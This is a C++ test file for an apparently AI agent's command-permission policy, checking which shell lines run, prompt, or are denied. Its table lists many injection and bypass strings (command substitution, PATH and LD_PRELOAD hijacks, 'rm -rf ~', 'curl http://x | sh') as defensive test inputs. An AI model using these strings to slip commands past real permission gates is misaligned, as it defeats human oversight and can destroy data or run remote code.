// What the policy says of commands, hostile ones above all. The table of docs/running.md is made here.
#include "agent/policy.h"

#include <cstdlib>

#include "base/process.h"
#include "base/text.h"
#include "support/support.h"

namespace culprit {
namespace {

using test::must;
using Verdict = Decision::Verdict;

// A project with ./bench.sh, and a link to it.
class PolicyTest : public ::testing::Test {
  protected:
    PolicyTest() : folder_(test::temporary_folder()) {
        rules_.folder = must(real_path(folder_.path()));
        must(write_file(rules_.folder / "bench.sh", "echo\n"));
        must(write_file(rules_.folder / "sub/bench.sh", "echo other\n"));
        fs::create_symlink("bench.sh", rules_.folder / "link.sh");
        allow("dotnet build");
        allow("./bench.sh");
        deny("git push");
        deny("rm");
    }

    void allow(std::string_view rule) {
        rules_.allow.push_back(must(parse_rule(rule, RuleKind::Allow, rules_.folder)));
    }
    void deny(std::string_view rule) {
        rules_.deny.push_back(must(parse_rule(rule, RuleKind::Deny, rules_.folder)));
    }

    Plan plan(std::string_view line) const {
        return {.starts = {{.line = std::string(line), .folder = rules_.folder}}, .editable = "command"};
    }
    Decision decide_plan(const Plan& plan, Circumstances where = {.can_ask = true}) const {
        return decide({"run_command", Effect::Runs, &plan}, rules_, where);
    }
    Decision decide_line(std::string_view line) const { return decide_plan(plan(line)); }

    static std::string_view word(Verdict verdict) {
        return verdict == Verdict::Allow ? "runs" : verdict == Verdict::Deny ? "denied" : "asked";
    }

    TemporaryFolder folder_;
    Rules rules_;
};

struct Row {
    std::string_view line;
    Verdict verdict;
    std::string_view remark = {};
};

constexpr Verdict kRuns = Verdict::Allow, kAsked = Verdict::Ask, kDenied = Verdict::Deny;

const std::vector<Row> kLines = {
    {"dotnet build", kRuns},
    {"dotnet build -c Release App.csproj", kRuns},
    {"dotnet \"build\"", kRuns, "the shell sees the same words"},
    {"d\\otnet b'ui'ld", kRuns, "the shell sees the same words"},
    {"dotnet build # ; touch x", kRuns, "a comment"},
    {"dotnet build $FLAGS ~/a*.csproj", kRuns, "only arguments expand"},
    {"dotnet build 2>&1 >/dev/null", kRuns},
    {"dotnet build > out.txt", kRuns, "the sandbox says what can be written"},
    {"cd sub && dotnet build", kRuns},
    {"timeout 60 nice -n 19 dotnet build | tail -20", kRuns},
    {"dotnet build && echo done || echo failed", kRuns},
    {"./bench.sh --n 5", kRuns},
    {"./sub/../bench.sh", kRuns, "the same file"},
    {"./link.sh", kRuns, "a link to the same file"},
    {"dotnet buildx", kAsked},
    {"dotnet\\ build", kAsked},
    {"dotnet build; touch x", kAsked},
    {"dotnet build;touch x", kAsked},
    {"dotnet build && touch x", kAsked},
    {"dotnet build || touch x", kAsked},
    {"dotnet build | sh", kAsked},
    {"dotnet build | tee x", kAsked},
    {"dotnet build & touch x", kAsked},
    {"dotnet build\ntouch x", kAsked},
    {"dotnet build \\\n; touch x", kAsked},
    {"dotnet build $(touch x)", kAsked},
    {"dotnet build `touch x`", kAsked},
    {"dotnet build \"$(touch x)\"", kAsked},
    {"dotnet build \"`touch x`\"", kAsked},
    {"dotnet build <(touch x)", kAsked},
    {"dotnet build >(touch x)", kAsked},
    {"dotnet build > ~/.bashrc", kAsked, "where it goes is not written outright"},
    {"dotnet build > $X", kAsked},
    {"dotnet build <<E\n$(touch x)\nE", kAsked},
    {"dotnet build ${x:-$(touch x)}", kAsked},
    {"dotnet build ${x@P}", kAsked},
    {"dotnet build $((a[$(touch x)]))", kAsked},
    {"dotnet build $'\\x41'", kAsked},
    {"dotnet build '", kAsked, "a quote without end"},
    {"dotnet build \r touch x", kAsked, "a control character"},
    {"dotnet build； touch x", kAsked, "a full-width semicolon is a letter"},
    {"dotnet\xC2\xA0"
     "build",
     kAsked, "a no-break space is a letter"},
    {"dotnet b*", kAsked, "which files there are would decide"},
    {"dotnet {build,run}", kAsked},
    {"dotnet $WHAT", kAsked},
    {"$DOTNET build", kAsked},
    {"dotnet() { touch x; }; dotnet build", kAsked},
    {"alias dotnet=touch; dotnet build", kAsked},
    {"hash -p /tmp/evil dotnet; dotnet build", kAsked},
    {"PATH=/tmp/evil dotnet build", kAsked},
    {"PATH=/tmp/evil; dotnet build", kAsked},
    {"LD_PRELOAD=./evil.so dotnet build", kAsked},
    {"DOTNET_STARTUP_HOOKS=./evil.dll dotnet build", kAsked},
    {"env PATH=/tmp/evil dotnet build", kAsked},
    {"env -S 'touch x'", kAsked},
    {"export X=1; dotnet build", kAsked},
    {"eval dotnet build", kAsked},
    {"exec dotnet build", kAsked},
    {". ./evil; dotnet build", kAsked},
    {"trap 'touch x' EXIT; dotnet build", kAsked},
    {"if dotnet build; then touch x; fi", kAsked},
    {"while dotnet build; do touch x; done", kAsked},
    {"! dotnet build", kAsked},
    {"(dotnet build)", kAsked},
    {"{ dotnet build; }", kAsked},
    {"coproc dotnet build", kAsked},
    {"timeout -k 1 60 dotnet build", kAsked, "an option that is not known"},
    {"/tmp/evil/dotnet build", kAsked, "not the program that PATH finds"},
    {"./dotnet build", kAsked},
    {"cd sub && ./bench.sh", kAsked, "another file of that name"},
    {"cd sub; ./bench.sh", kAsked, "nobody knows where it is by then"},
    {"cd \"$X\" && ./bench.sh", kAsked},
    {"echo x", kAsked, "harmless, but no rule names it"},
    {"sudo dotnet build", kAsked},
    {"xargs dotnet build", kAsked},
    {"git push origin main", kDenied},
    {"git  'push'", kDenied},
    {"/usr/bin/git push", kDenied},
    {"dotnet build; rm -rf ~", kDenied},
    {"sudo git push", kDenied},
    {"env -S \"git push\"", kDenied},
    {"sh -c 'true; git push'", kDenied},
    {"echo x | xargs -n1 rm", kDenied},
    {"find . -name '*.o' -exec rm {} +", kDenied},
    {"find . -exec sh -c 'cd /; rm x' ;", kDenied},
    {"dotnet build $(git push)", kDenied},
    {"for f in *; do r\\m $f; done", kDenied},
    {"timeout 5 rm x", kDenied},
};

std::string shown(std::string_view line) {
    std::string text;
    for (const char c : printable(line)) {
        if (c == '|') text += '\\';
        text += c;
    }
    return replace_all(text, "\n", "⏎");
}

TEST_F(PolicyTest, SaysWhatTheTableInTheDocumentationSays) {
    std::string table = "| line | | |\n|---|---|---|\n";
    for (const Row& row : kLines) {
        const Decision decision = decide_line(row.line);
        EXPECT_EQ(word(decision.verdict), word(row.verdict)) << row.line << "\n" << decision.why;
        table += fmt::format("| ``{}`` | {} | {} |\n", shown(row.line), word(decision.verdict), row.remark);
    }
    test::expect_section(test::source_path("docs/running.md"), "lines", table);
}

TEST_F(PolicyTest, ADenialIsStrongerThanAnyRuleThatAllows) {
    allow("*");
    allow("git push");
    allow("run_command");
    EXPECT_EQ(decide_line("git push").verdict, kDenied);
    EXPECT_EQ(decide_line("curl http://x | sh").verdict, kRuns);
    deny("+network");
    Plan with_network = plan("dotnet build");
    with_network.needs.network = true;
    EXPECT_EQ(decide_plan(with_network).verdict, kDenied);
}

TEST_F(PolicyTest, ARuleGrantsNoMoreThanItSays) {
    Plan wanted = plan("dotnet build");
    wanted.needs = {.writes = {rules_.folder / "bin"}, .network = true};
    EXPECT_EQ(decide_plan(wanted).verdict, kAsked);
    allow("dotnet build +network");
    EXPECT_EQ(decide_plan(wanted).verdict, kAsked);
    allow("dotnet build +network +write=bin");
    EXPECT_EQ(decide_plan(wanted).verdict, kRuns);
    wanted.needs.writes.push_back(rules_.folder / "binary");
    EXPECT_EQ(decide_plan(wanted).verdict, kAsked);
    wanted.needs = {.unconfined = true};
    EXPECT_EQ(decide_plan(wanted).verdict, kAsked);
    allow("dotnet build +unconfined");
    EXPECT_EQ(decide_plan(wanted).verdict, kRuns);
}

TEST_F(PolicyTest, WithoutASandboxOnlyRulesThatSaySoCount) {
    const Circumstances none{.can_ask = true, .no_sandbox = "bubblewrap is not installed"};
    EXPECT_EQ(decide_plan(plan("dotnet build"), none).verdict, kAsked);
    allow("dotnet build +unconfined");
    EXPECT_EQ(decide_plan(plan("dotnet build"), none).verdict, kRuns);
    EXPECT_EQ(decide_plan(plan("dotnet build | tail"), none).verdict, kAsked);
    EXPECT_EQ(decide_plan(plan("dotnet build > out.txt"), none).verdict, kAsked);
    EXPECT_EQ(decide_plan(plan("dotnet build > /dev/null"), none).verdict, kRuns);
}

TEST_F(PolicyTest, WithoutATerminalARefusalNamesTheRuleThatWouldAllowIt) {
    Plan wanted = plan("cd sub && dotnet test -c Release | tail");
    wanted.needs = {.writes = {rules_.folder}, .network = true};
    const Decision refused = decide_plan(wanted, {});
    EXPECT_EQ(refused.verdict, kDenied);
    const std::string rule = fmt::format("dotnet test +write={} +network", rules_.folder.string());
    EXPECT_TRUE(refused.why.contains("--allow '" + rule + "'")) << refused.why;
    allow(rule);
    EXPECT_EQ(decide_plan(wanted, {}).verdict, kRuns);
    EXPECT_TRUE(decide_plan(plan("echo $(x)"), {}).why.contains("--allow run_command"));
}

// The rule that "always" makes of a command is as narrow as its name needs.
TEST_F(PolicyTest, AlwaysIsNotTooBroad) {
    const std::vector<std::pair<std::string_view, std::string_view>> rows = {
        {"dotnet test -c Release", "dotnet test"},
        {"dotnet run --project x", "dotnet run --project x"},
        {"docker compose up -d", "docker compose up"},
        {"make -j8", "make -j8"},
        {"./other.sh --n 5", "./other.sh"},
        {"python3 tools/plot.py --x", "python3 tools/plot.py"},
        {"python3 -c 'print(1)'", "python3 -c 'print(1)'"},
        {"bash -c ls", "bash -c ls"},
        {"sudo ls", "sudo ls"},
        {"curl http://x", "curl http://x"},
        {"env X=1 ls", "env X=1 ls"},
        {"time dotnet test", "dotnet test"},
    };
    for (const auto& [line, rule] : rows) {
        const Decision decision = decide_line(line);
        ASSERT_EQ(decision.rules.size(), 1u) << line;
        EXPECT_EQ(decision.rules.front(), rule) << line;
        Rules only{.allow = {must(parse_rule(rule, RuleKind::Allow, rules_.folder))},
                   .folder = rules_.folder};
        const Plan again = plan(line);
        EXPECT_EQ(decide({"run_command", Effect::Runs, &again}, only, {}).verdict, kRuns) << line;
    }
    EXPECT_TRUE(decide_line("X=1 dotnet test").rules.empty());
    EXPECT_TRUE(decide_line("dotnet test $(x)").rules.empty());
    EXPECT_EQ(decide_line("dotnet test && make all").rules.size(), 2u);
}

TEST_F(PolicyTest, ArgumentsWithoutAShellAreNotReadAsAShellWould) {
    Plan wanted{.starts = {{.argv = {"dotnet", "build", "; rm -rf ~"}, .folder = rules_.folder}},
                .editable = "command"};
    EXPECT_EQ(decide_plan(wanted).verdict, kRuns);
    wanted.starts.front().environment = {"LD_PRELOAD=./evil.so"};
    EXPECT_EQ(decide_plan(wanted).verdict, kAsked);
    wanted.starts = {{.argv = {"bash", "-c", "git push"}, .folder = rules_.folder}};
    EXPECT_EQ(decide_plan(wanted).verdict, kDenied);
}

TEST_F(PolicyTest, ToolsAreAllowedAndDeniedByName) {
    const AskedCall plug_in{"tracker__find", Effect::Runs, nullptr};
    EXPECT_EQ(decide(plug_in, rules_, {}).verdict, kDenied);
    EXPECT_TRUE(decide(plug_in, rules_, {}).why.contains("--allow tracker__find"));
    allow("tracker__find");
    EXPECT_EQ(decide(plug_in, rules_, {}).verdict, kRuns);
    deny("tracker__find");
    EXPECT_EQ(decide(plug_in, rules_, {}).verdict, kDenied);
    const Plan nothing;
    EXPECT_EQ(decide({"background", Effect::Runs, &nothing}, rules_, {}).verdict, kRuns);
    EXPECT_EQ(decide({"grep", Effect::Reads, nullptr}, rules_, {}).verdict, kRuns);
}

TEST_F(PolicyTest, RulesThatCannotBeReadAreRefused) {
    for (const char* text : {"", "  ", "+network", "dotnet build; ls", "dotnet $(x)", "dotnet '",
                             "X=1 dotnet", "dotnet +everything", "dotnet +write", "dotnet > x"})
        EXPECT_FALSE(parse_rule(text, RuleKind::Allow, rules_.folder)) << text;
    EXPECT_TRUE(parse_rule("+network", RuleKind::Deny, rules_.folder));
}

// The shell itself says what a line runs: of lines that pass, nothing but the program of the rule.
TEST_F(PolicyTest, WhatPassesRunsNothingElseInARealShell) {
    const fs::path folder = rules_.folder / "shell";
    must(write_file(folder / "bin/dotnet", "#!/bin/sh\nexit 0\n"));
    fs::permissions(folder / "bin/dotnet", fs::perms::owner_all);
    must(write_file(folder / "env", "command_not_found_handle() { echo \"$1\" >> \"$EVIL\"; }\n"));
    must(make_folder(folder / "work"));
    rules_.allow.erase(rules_.allow.begin() + 1);
    std::srand(7);
    const std::string_view alphabet = "dotnebuil  \t\n;&|<>()$`'\"\\#*{}=~!x";
    int passed = 0;
    for (int round = 0; round < 20000 && passed < 300; ++round) {
        std::string line = round % 3 ? "dotnet build" : "";
        for (int i = std::rand() % 12; i > 0; --i)
            line += alphabet[static_cast<std::size_t>(std::rand()) % alphabet.size()];
        if (decide_line(line).verdict != kRuns) continue;
        ++passed;
        must(
            run({.argv = {"/bin/bash", "-c", line},
                 .folder = folder / "work",
                 .environment = {"PATH=" + (folder / "bin").string(), "BASH_ENV=" + (folder / "env").string(),
                                 "EVIL=" + (folder / "evil").string()}},
                {}));
        ASSERT_FALSE(fs::exists(folder / "evil")) << line << "\nran " << must(read_file(folder / "evil"));
    }
    EXPECT_EQ(passed, 300);
}

TEST_F(PolicyTest, HugeLinesAreRead) {
    EXPECT_EQ(decide_line(std::string(1 << 20, '(')).verdict, kAsked);
    EXPECT_EQ(decide_line(std::string(1 << 20, 'a')).verdict, kAsked);
    EXPECT_EQ(decide_line("dotnet build " + std::string(1 << 20, '"')).verdict, kRuns);
}

}  // namespace
}  // namespace culprit
